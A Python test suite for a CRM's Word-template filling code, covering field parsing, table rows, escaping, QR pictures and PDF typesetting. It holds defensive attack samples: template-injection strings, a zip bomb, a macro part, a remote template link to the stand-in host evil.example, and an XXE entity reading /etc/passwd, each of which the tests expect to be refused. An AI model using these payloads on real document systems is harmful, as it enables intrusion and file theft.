"""Word templates: fields found, refused, filled; nothing but listed values ever comes out."""

import io
import random
import re
import zipfile

import docx
import pytest
from docx.enum.text import WD_ALIGN_PARAGRAPH
from hypothesis import given
from hypothesis import strategies as st

from mostik.crm.adapters.docx.filling import fill, inspect
from mostik.crm.adapters.docx.opening import DocxRuns, DocxTooLarge, NotADocx
from mostik.crm.adapters.docx.reading import read
from mostik.crm.adapters.docx.ready import SHEETS, ready_template
from mostik.crm.adapters.qr import qr_picture
from mostik.crm.adapters.typst.setting import set_paper
from mostik.crm.rules.documents.fields import ITEM, KNOWN, PICTURE
from mostik.crm.rules.documents.marks import Fault, clean, faults, filled

VALUES = {name: f"<{name}>" for name in KNOWN if name not in ITEM and name != PICTURE} | {PICTURE: ""}
LINES = [{name: f"{name}#{place}" for name in ITEM} for place in (1, 2, 3)]


def written(build) -> bytes:
    document = docx.Document()
    build(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def text_in(content: bytes) -> str:
    document = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(each.text for each in document.paragraphs), *cells])


def test_a_field_split_over_runs_is_one_field_and_keeps_the_look_of_its_beginning():
    def build(document):
        paragraph = document.add_paragraph("Dear ")
        for piece, bold in (("{cli", True), ("ent.", False), ("name}", False), (", hello {deal.title}", False)):
            paragraph.add_run(piece).bold = bold

    content = written(build)
    names, troubles = inspect(content)
    assert (names, troubles) == (["client.name", "deal.title"], [])
    runs = docx.Document(io.BytesIO(fill(content, VALUES, []))).paragraphs[0].runs
    assert "".join(run.text for run in runs) == "Dear <client.name>, hello <deal.title>"
    assert [run.bold for run in runs if "<client.name>" in run.text] == [True]


def test_an_unknown_field_is_told_with_its_place():
    def build(document):
        document.add_paragraph("fine {client.name}")
        document.add_paragraph("bad {deal.owner.password}")
        table = document.add_table(2, 3)
        table.cell(1, 2).text = "{item.cost}"
        document.sections[0].header.paragraphs[0].text = "{seller.secret} {"

    troubles = {(each.mark, each.fault): each for each in inspect(written(build))[1]}
    assert set(troubles) == {
        ("{deal.owner.password}", Fault.UNKNOWN),
        ("{item.cost}", Fault.UNKNOWN),
        ("{seller.secret}", Fault.UNKNOWN),
        ("{", Fault.OPEN),
    }
    assert troubles["{deal.owner.password}", Fault.UNKNOWN].paragraph == 2
    place = troubles["{item.cost}", Fault.UNKNOWN]
    assert (place.table, place.row, place.column) == (1, 2, 3)
    assert troubles["{seller.secret}", Fault.UNKNOWN].story == "header"


def test_a_lines_field_outside_a_table_is_refused():
    (trouble,) = inspect(written(lambda document: document.add_paragraph("{item.title}")))[1]
    assert (trouble.mark, trouble.fault) == ("{item.title}", Fault.LOOSE_ITEM)


def test_a_row_is_repeated_for_each_line_and_values_are_never_read_again():
    def build(document):
        table = document.add_table(2, 2)
        table.cell(0, 0).text, table.cell(1, 0).text, table.cell(1, 1).text = "What", "{item.title}", "{client.name}"

    lines = [{**LINES[0], "item.title": "{client.phone}"}, LINES[1]]
    rows = (
        docx.Document(io.BytesIO(fill(written(build), {**VALUES, "client.name": "{seller.inn}"}, lines))).tables[0].rows
    )
    assert [[cell.text for cell in row.cells] for row in rows] == [
        ["What", ""],
        ["{client.phone}", "{seller.inn}"],
        ["item.title#2", "{seller.inn}"],
    ]


def test_what_would_say_nothing_is_left_out():
    def build(document):
        document.add_paragraph("{document.terms}")
        document.add_paragraph("Basis: {document.basis}")
        table = document.add_table(3, 2)
        for place, (label, field) in enumerate(
            (("Until", "{document.due}"), ("Sign ____", "____ {seller.signer}"), ("x", "y"))
        ):
            table.cell(place, 0).text, table.cell(place, 1).text = label, field

    empty = dict.fromkeys(VALUES, "")
    document = docx.Document(io.BytesIO(fill(written(build), empty, [])))
    assert [each.text for each in document.paragraphs if each.text] == ["Basis: "]
    assert [row.cells[0].text for row in document.tables[0].rows] == ["Sign ____", "x"]


def test_a_value_with_lines_and_forbidden_signs_stays_one_paragraph():
    content = written(lambda document: document.add_paragraph("{client.name}"))
    document = docx.Document(io.BytesIO(fill(content, {**VALUES, "client.name": "a<&>\nb\x00\x0bc\ud800"}, [])))
    assert document.paragraphs[0].text == "a<&>\nbc"


def test_the_payment_code_is_a_picture_where_its_field_stood():
    content = written(lambda document: document.add_paragraph("Pay {payment.qr} now"))
    done = fill(content, {**VALUES, PICTURE: "x"}, [], qr_picture("ST00012|Name=x"))
    document = docx.Document(io.BytesIO(done))
    assert (document.paragraphs[0].text, len(document.inline_shapes)) == ("Pay  now", 1)
    data, pictures = read(done)
    assert [piece["kind"] for piece in data["body"][0]["pieces"]] == ["text", "picture", "text"]
    assert set(pictures) == {"picture-0.png"}


def test_five_thousand_generated_templates_give_only_listed_values():
    chance = random.Random(7)
    tricks = [
        "{{7*7}}",
        "{% load x %}",
        "{deal.owner.password}",
        "{client.__class__}",
        "${client.name}",
        "{client.name!r}",
    ]
    tricks += [
        "{client.name:>99999999}",
        "{0}",
        "{}",
        "{self}",
        "{item.title}",
        "{CLIENT.NAME}",
        "#eval(1)",
        "<w:t>",
        "{{client.name}}",
    ]
    known = sorted(VALUES)
    for _ in range(5000):
        parts = [
            chance.choice([f"{{{chance.choice(known)}}}", chance.choice(tricks), "слово ", "{", "}"])
            for _ in range(chance.randint(1, 8))
        ]
        template = "".join(parts)
        wrong = {mark for mark, _fault in faults(template, VALUES)}
        out = filled(template, VALUES)
        # Whatever was put in is a listed value; everything else is the template's own text, untouched.
        shape = "".join(
            re.escape(VALUES[name.strip()])
            if (name := piece[1:-1]) and piece.startswith("{") and name.strip() in VALUES
            else re.escape(piece)
            for piece in re.split(r"(\{[^{}]*\})", template)
        )
        assert re.fullmatch(shape, out, re.DOTALL)
        if "{" in re.sub(r"\{[^{}]*\}", "", template) or any(
            trick in parts for trick in (tricks[2], tricks[3], tricks[5])
        ):
            assert wrong, template


@given(st.text(max_size=60))
def test_any_text_is_judged_and_filled_without_a_stumble(text):
    faults(text, KNOWN)
    assert filled(text, {}) == text
    assert "\x00" not in clean(text)


@given(st.dictionaries(st.sampled_from(sorted(VALUES)), st.text(max_size=40), min_size=1))
def test_values_never_become_fields_or_markup(values):
    content = written(lambda document: [document.add_paragraph(f"{{{name}}}|") for name in values])
    texts = [each.text for each in docx.Document(io.BytesIO(fill(content, values, []))).paragraphs]
    assert texts == [("" if name == PICTURE else clean(value)) + "|" for name, value in values.items()]


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"%PDF-1.4", b"\x00" * 100, "просто текст".encode()])
def test_what_is_no_word_file_is_refused(content):
    with pytest.raises(NotADocx):
        inspect(content)


@given(st.binary(max_size=300))
def test_any_bytes_are_refused_or_read(content):
    with pytest.raises(NotADocx):
        inspect(content)


@given(st.integers(0, 30_000), st.integers(0, 255))
def test_a_damaged_file_never_breaks_us(place, byte):
    whole = bytearray(ready_template("invoice", "ru")[1])
    whole[place % len(whole)] = byte
    try:
        inspect(bytes(whole))
    except (NotADocx, DocxTooLarge, DocxRuns):
        return


def changed(content: bytes, **parts: bytes) -> bytes:
    """Return a file with parts added or replaced; names are given with __ for / and _ for a dot's place."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            if part.filename not in parts:
                target.writestr(part, source.read(part))
        for name, body in parts.items():
            target.writestr(name, body)
    return out.getvalue()


def test_bombs_macros_and_files_fetched_from_elsewhere_are_refused():
    content = written(lambda document: document.add_paragraph("x"))
    with pytest.raises(DocxTooLarge):
        inspect(changed(content, **{"word/media/big.png": b"\x00" * (41 << 20)}))
    with pytest.raises(DocxTooLarge):
        inspect(b"PK\x03\x04" + b"\x00" * (5 << 20))
    with pytest.raises(DocxRuns):
        inspect(changed(content, **{"word/vbaProject.bin": b"x"}))
    links = b"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
    <Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>"""
    with pytest.raises(DocxRuns):
        inspect(
            changed(
                content,
                **{"word/_rels/settings.xml.rels": links, "word/settings.xml": _part(content, "word/settings.xml")},
            )
        )


def test_entities_are_not_expanded():
    content = written(lambda document: document.add_paragraph("x"))
    body = (
        _part(content, "word/document.xml")
        .replace(b"<w:document", b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1)
        .replace(b"<w:t>x</w:t>", b"<w:t>&e;</w:t>")
    )
    with pytest.raises(NotADocx):
        fill(changed(content, **{"word/document.xml": body}), VALUES, [])


def _part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


@pytest.mark.parametrize(("kind", "language"), list(SHEETS))
def test_every_ready_template_is_filled_and_set(kind, language):
    title, content = ready_template(kind, language)
    names, troubles = inspect(content)
    assert troubles == []
    assert {"document.number", "item.title"} <= set(names)
    done = fill(content, VALUES, LINES)
    assert "{" not in text_in(done)
    assert all(line["item.title"] in text_in(done) for line in LINES)
    pdf, pages = set_paper(*read(done), title=title, language=language)
    assert pdf.startswith(b"%PDF-")
    assert pages[0].startswith(b"\x89PNG")


def test_the_layout_of_the_word_file_is_followed():
    def build(document):
        paragraph = document.add_paragraph()
        paragraph.alignment = WD_ALIGN_PARAGRAPH.RIGHT
        run = paragraph.add_run("Bold")
        run.bold = run.italic = True
        document.add_paragraph("One", style="List Number")
        document.add_paragraph("Two", style="List Number")
        table = document.add_table(2, 2, style="Table Grid")
        table.cell(0, 0).merge(table.cell(0, 1)).text = "wide"
        document.add_page_break()
        document.add_paragraph("next page")

    content, _pictures = read(written(build))
    bold, one, two, table, *rest = content["body"]
    assert (bold["align"], bold["pieces"][0]["bold"], bold["pieces"][0]["italic"]) == ("right", True, True)
    assert (one["label"], two["label"]) == ("1.", "2.")
    assert [cell["span"] for cell in table["rows"][0]] == [2]
    assert all(table["rows"][1][0]["lines"].values())
    _pdf, pages = set_paper(content, {}, title="x", language="en")
    assert len(pages) == 2
    assert any(block["new_page"] for block in rest)


def test_text_is_never_markup_for_the_typesetter():
    words = '#panic("x") *bold* _it_ $x$ `raw` <label> @ref \\ // /* = heading #import "/etc/passwd"'
    content, _pictures = read(written(lambda document: document.add_paragraph(words)))
    pdf, _pages = set_paper(content, {}, title=words, language="ru")
    assert pdf.startswith(b"%PDF-")


def test_the_fonts_hold_every_letter_we_write():
    import typst

    from mostik.web.tables.paper import fonts

    letters = (
        "".join(chr(code) for code in range(0x410, 0x450))
        + "ЁёҐґЄєІіЇїЎў№₽«»—–…€§%"
        + "".join(map(chr, range(33, 127)))
    )
    source = b'#set text(font: "Libertinus Serif", fallback: false)\n#sys.inputs.words'
    _out, warnings = typst.compile_with_warnings(
        source, font_paths=fonts(), ignore_system_fonts=True, sys_inputs={"words": letters}
    )
    assert [str(each) for each in warnings] == []
